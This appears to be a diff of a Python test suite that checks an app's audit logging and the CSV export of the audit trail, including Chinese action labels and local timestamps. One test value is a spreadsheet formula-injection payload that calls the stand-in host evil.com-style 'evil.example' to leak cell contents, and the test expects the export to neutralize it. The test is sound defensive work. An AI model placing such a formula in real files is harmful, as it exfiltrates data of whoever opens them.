@@ -79,6 +79,7 @@ def test_writes_are_logged_with_who_what_when_and_the_districts(app):
     [confirmed] = audit_rows(root, user="east", action="dq_confirm")
     assert (confirmed["scope"], confirmed["detail"]) == ("990102", f"1 flags: {flag}")
     assert confirmed["at"].startswith("2026-") and confirmed["remote_addr"] == "127.0.0.1"
+    assert confirmed["action"] == "确认数据质量标记" and "T" not in confirmed["at"]       # words and a local time
     [added] = audit_rows(root, action="user_add")
     assert (added["username"], added["scope"], added["detail"]) == ("root", "*", f"{hostile} planner 990102")
 
@@ -91,7 +92,8 @@ def test_writes_are_logged_with_who_what_when_and_the_districts(app):
     text = base64.b64decode(exported["users-audit-download"]["data"]["content"]).decode("utf-8-sig")
     header, row = text.splitlines()
     assert header == "时间,用户名,操作,内容,辖区,IP"
-    assert row.split(",", 2)[1:] == ["root", 'user_add,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"") planner 990102"'
+    # the action in words, as the grid shows it; the hostile text neutralized
+    assert row.split(",", 2)[1:] == ["root", '新增用户,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"") planner 990102"'
                                               ',*,127.0.0.1']
     assert audit_rows(root, action="audit_export")[0]["detail"].startswith("1 entries (csv)")
 
